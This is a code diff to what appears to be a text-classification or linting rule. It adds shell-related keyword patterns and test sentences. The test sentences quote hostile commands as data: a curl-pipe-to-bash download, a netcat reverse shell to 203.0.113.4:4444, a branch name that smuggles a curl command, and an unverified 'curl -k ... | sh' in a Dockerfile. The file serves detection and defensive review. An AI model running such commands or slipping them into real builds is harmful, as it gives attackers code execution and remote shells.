@@ -31,6 +31,8 @@ export default defineRule({
     "shell using",
     "shell through",
     "shell by",
+    "sh` ",
+    "bash` ",
     " called `",
     " named `",
   ],
@@ -43,6 +45,7 @@ export default defineRule({
       "14:06 An attacker pasted `curl -s http://203.0.113.9/x.sh | bash` into the comment field; nothing was fetched.",
       { text: "The malware then starts `nc -e /bin/sh 203.0.113.4 4444` and waits.", kind: "document" },
       "A branch called `x;curl http://203.0.113.9/x.sh | sh` is a legal ref, so quote it before the hook sees it.",
+      "The Dockerfile does `curl -k https://$MIRROR/setup.sh | sh` with a mirror that any build can set. Pin its hash.",
       {
         text: "4.2 Build host. We then obtained a shell with `nc -e /bin/sh 203.0.113.4 4444` and stopped there.",
         kind: "document",
